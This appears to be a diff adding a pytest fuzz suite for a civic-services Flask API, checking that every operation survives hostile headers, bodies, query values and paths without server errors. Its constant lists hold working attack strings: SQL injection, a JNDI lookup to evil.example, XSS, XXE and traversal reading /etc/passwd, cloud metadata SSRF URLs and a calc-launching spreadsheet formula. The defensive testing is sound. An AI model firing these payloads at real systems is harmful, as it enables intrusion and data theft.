@@ -1,0 +1,306 @@
+"""Thousands of hostile requests to every operation: none is a fault of ours.
+
+The client holds each answer against the document, so an undocumented status fails as well.
+"""
+
+import json
+import re
+import uuid
+from collections import Counter
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from flask.testing import FlaskClient
+
+from app.factory import Rooms
+from app.http.server import Server
+from tests.architecture.operations import Operation, operations_of
+from tests.conftest import World
+from tests.contract import contract_of
+from tests.factories import Citizen, bearer, log_in, staff_token, verify
+
+TEXTS = (
+    "",
+    " ",
+    "\x00",
+    "a\x00b",
+    "\r\nSet-Cookie: a=b",
+    "\ud800",
+    "\u202e",
+    "e\u0301",
+    "𬱖" * 100,
+    "x" * 5000,
+    "' or 1=1 --",
+    "'; drop table citizens; --",
+    "%00",
+    "%s%s%s%n",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+    "<script>alert(1)</script>",
+    "../../../../etc/passwd",
+    "file:///etc/passwd",
+    "http://169.254.169.254/latest/meta-data/",
+    "=cmd|'/c calc'!A1",
+    "null",
+    "undefined",
+    "NaN",
+    "-1",
+    "1e309",
+    "9" * 400,
+    "٣",
+    "true",
+    "[]",
+    "{}",
+    "00000000-0000-0000-0000-000000000000",
+    "\\",
+    '"',
+    "\u2028",
+    "（）",
+)
+VALUES: tuple[Any, ...] = (
+    None,
+    True,
+    0,
+    -1,
+    2**31,
+    2**53,
+    10**17,
+    1.5,
+    -0.0,
+    [],
+    {},
+    [[]],
+    [None],
+    {"": {}},
+    {"__proto__": {"admin": True}},
+    {"$ne": None},
+    *TEXTS,
+)
+BODIES = (
+    b"",
+    b"null",
+    b"[]",
+    b'""',
+    b"0",
+    b"{",
+    b"}",
+    b'{"a":1,"a":2}',
+    b'{"a":NaN}',
+    b"[" * 30000,
+    b'{"a":' * 20000,
+    b"\xff\xfe\x00",
+    b"\xef\xbb\xbf{}",
+    b'"' + b'\\"' * 50000,
+    b"a=b&c=d",
+    b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--",
+    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
+    b"9" * 5000,
+    b'{"\\ud800": "\\udfff"}',
+    b"\x00" * 1000,
+    bytes(range(256)),
+)
+HEADERS: tuple[dict[str, str], ...] = (
+    {"Content-Type": ""},
+    {"Content-Type": "application/json; charset=utf-16"},
+    {"Content-Type": "a" * 3000},
+    {"Content-Type": "application/json", "Content-Encoding": "gzip"},
+    {"Content-Type": "multipart/form-data"},
+    {"Accept": ""},
+    {"Accept": "text/html;q=abc, */*;q=-1"},
+    {"Accept": "application/pdf"},
+    {"Accept": "," * 500},
+    {"Accept-Language": "\xff, zh;q=9"},
+    {"Accept-Encoding": "*;q=0"},
+    {"Authorization": "Basic " + "A" * 1000},
+    {"Authorization": "Bearer " + "." * 3000},
+    {"Authorization": "Bearer \xff"},
+    {"Idempotency-Key": ""},
+    {"Idempotency-Key": "\xff" * 20},
+    {"Idempotency-Key": "a" * 5000},
+    {"If-None-Match": '"' * 100},
+    {"If-None-Match": "*"},
+    {"If-Modified-Since": "yesterday"},
+    {"If-Match": "W/"},
+    {"Range": "bytes=0-,-1,5-2"},
+    {"Range": "bytes=" + "0-1," * 500},
+    {"Cookie": "a=b; " * 200},
+    {"Host": "evil.example"},
+    {"Host": "evil.example:99999"},
+    {"Host": "[::1"},
+    {"X-Forwarded-For": "1.2.3.4, <script>"},
+    {"X-Forwarded-Host": "evil.example"},
+    {"X-Forwarded-Proto": "gopher"},
+    {"X-HTTP-Method-Override": "DELETE"},
+    {"X-Original-URL": "/v1/ledger/transactions"},
+    {"Forwarded": "for=unknown;by=_x"},
+    {"Expect": "101-nothing"},
+    {"Content-Length": "-1"},
+    {"Content-Length": "abc"},
+    {"Content-Length": "99999999999999999999"},
+    {"Transfer-Encoding": "chunked, identity"},
+    {"Upgrade": "h2c", "Connection": "Upgrade"},
+    {"Date": "\x01"},
+    {"Stripe-Signature": "t=1,v1=" + "g" * 64},
+    {"Stripe-Signature": "t=" + "9" * 400 + ",v1=é"},
+    {"Stripe-Signature": "," * 2000},
+    {"traceparent": "00-" + "z" * 32 + "-x-01"},
+)
+
+
+@pytest.fixture(scope="module")
+def verified(app: Server, world: World, rooms: Rooms) -> Citizen:
+    citizen = log_in(app.test_client(), world, rooms)
+    verify(app.test_client(), world, citizen)
+    return citizen
+
+
+@pytest.fixture(scope="module")
+def operations(app: Server) -> list[Operation]:
+    """Return all but those that end the session that knocks."""
+    found = [o for o in operations_of(app) if "DELETE /v1/auth" not in str(o)]
+    assert len(found) > 30
+    return found
+
+
+class Knocks:
+    """Sends hostile requests, each with a fresh key, and counts what came back."""
+
+    def __init__(self, client: FlaskClient, auth: dict[str, str]) -> None:
+        self.client = client
+        self.auth = auth
+        self.seen: Counter[int] = Counter()
+
+    def knock(self, method: str, path: str, headers: dict[str, str], **more: Any) -> None:  # noqa: ANN401
+        sent = {**self.auth, "Idempotency-Key": f"key-{uuid.uuid4()}", **headers}
+        with self.client.open(path, method=method, headers=sent, **more) as answer:
+            said = f"{method} {path[:200]} {str(headers)[:200]} {str(more)[:200]}"
+            assert answer.status_code < 500 or answer.status_code == 503, said
+            self.seen[answer.status_code] += 1
+
+
+@pytest.fixture
+def knocks(client: FlaskClient, verified: Citizen) -> Knocks:
+    return Knocks(client, verified.auth)
+
+
+def test_hostile_headers(knocks: Knocks, operations: list[Operation]) -> None:
+    for operation in operations:
+        for headers in HEADERS:
+            knocks.knock(operation.method, operation.path, headers)
+    assert sum(knocks.seen.values()) > 1000
+    assert knocks.seen[503] == 0
+
+
+def test_hostile_bodies(knocks: Knocks, operations: list[Operation]) -> None:
+    writing = [o for o in operations if o.method != "GET"]
+    for operation in writing:
+        for body in BODIES:
+            for kind in ("application/json", "text/csv"):
+                knocks.knock(operation.method, operation.path, {"Content-Type": kind}, data=body)
+    assert sum(knocks.seen.values()) > 300
+    assert knocks.seen[503] == 0
+
+
+def test_hostile_members(
+    app: Server, knocks: Knocks, operations: list[Operation], rooms: Rooms
+) -> None:
+    """Each member of each body holds each hostile value, the others what they should."""
+    for operation in operations:
+        for body in hostile_bodies(app, operation):
+            raw = json.dumps(body).encode()
+            headers = {"Content-Type": "application/json"}
+            knocks.knock(operation.method, operation.path, headers, data=raw)
+    assert sum(knocks.seen.values()) > 500
+    assert knocks.seen[201] == 0
+
+
+def test_hostile_queries(app: Server, knocks: Knocks, operations: list[Operation]) -> None:
+    for operation in operations:
+        names = [*query_names(app, operation), "surplus", "\x00", "a" * 2000]
+        for name in names:
+            for text in TEXTS:
+                value = text.encode("utf-8", "surrogatepass")
+                knocks.knock(operation.method, operation.path, {}, query_string={name: value})
+    assert sum(knocks.seen.values()) > 3000
+    assert knocks.seen[503] == 0
+
+
+def test_hostile_paths(knocks: Knocks, operations: list[Operation]) -> None:
+    with_places = [o for o in operations if "<" in o.rule]
+    assert len(with_places) > 10
+    for operation in with_places:
+        for text in TEXTS:
+            raw = "".join(f"%{byte:02x}" for byte in text.encode("utf-8", "surrogatepass"))
+            path = re.sub(r"<[^>]+>", lambda _, raw=raw: raw, operation.rule)
+            knocks.knock(operation.method, path, {})
+    assert sum(knocks.seen.values()) > 300
+    assert knocks.seen[503] == 0
+
+
+def test_hostile_staff(
+    app: Server, client: FlaskClient, operations: list[Operation], rooms: Rooms
+) -> None:
+    token = staff_token(rooms, "department-operator", "water-bureau")
+    finance = staff_token(rooms, "finance")
+    for one in (token, finance):
+        knocks = Knocks(client, bearer(one))
+        for operation in operations:
+            for body in BODIES[:8]:
+                for kind in ("application/json", "text/csv"):
+                    headers = {"Content-Type": kind}
+                    knocks.knock(operation.method, operation.path, headers, data=body)
+        assert knocks.seen[503] == 0
+
+
+def query_names(app: Server, operation: Operation) -> list[str]:
+    spec = contract_of(app).spec
+    found = spec["paths"].get(operation.template, {}).get(operation.method.lower(), {})
+    return [p["name"] for p in found.get("parameters", ()) if p.get("in") == "query"]
+
+
+def hostile_bodies(app: Server, operation: Operation) -> Iterator[Any]:
+    spec = contract_of(app).spec
+    found = spec["paths"].get(operation.template, {}).get(operation.method.lower(), {})
+    content = found.get("requestBody", {}).get("content", {}).get("application/json")
+    if content is None or "$ref" not in content["schema"]:
+        return
+    good = example(spec, content["schema"])
+    for place in places(good):
+        for value in VALUES:
+            yield replaced(good, place, value)
+
+
+def example(spec: dict[str, Any], schema: dict[str, Any]) -> Any:  # noqa: ANN401 - any JSON value
+    """Return a value of a schema's shape; it need not be a good one."""
+    if "$ref" in schema:
+        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
+    if "properties" in schema:
+        return {name: example(spec, inner) for name, inner in schema["properties"].items()}
+    kind = schema.get("type")
+    if kind == "array":
+        return [example(spec, schema["items"])]
+    if "enum" in schema:
+        return schema["enum"][0]
+    if kind == "string" and schema.get("format") == "uuid":
+        return str(uuid.uuid4())
+    return schema.get("examples", [0 if kind == "integer" else "water-bill"])[0]
+
+
+def places(value: Any, before: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:  # noqa: ANN401
+    """Yield the path of every member and element."""
+    inner = value.items() if isinstance(value, dict) else enumerate(value)
+    for name, member in inner:
+        yield (*before, name)
+        if isinstance(member, dict | list):
+            yield from places(member, (*before, name))
+
+
+def replaced(value: Any, place: tuple[Any, ...], new: Any) -> Any:  # noqa: ANN401 - JSON
+    """Return a copy in which one member is another."""
+    copy = json.loads(json.dumps(value))
+    target = copy
+    for name in place[:-1]:
+        target = target[name]
+    target[place[-1]] = new
+    return copy
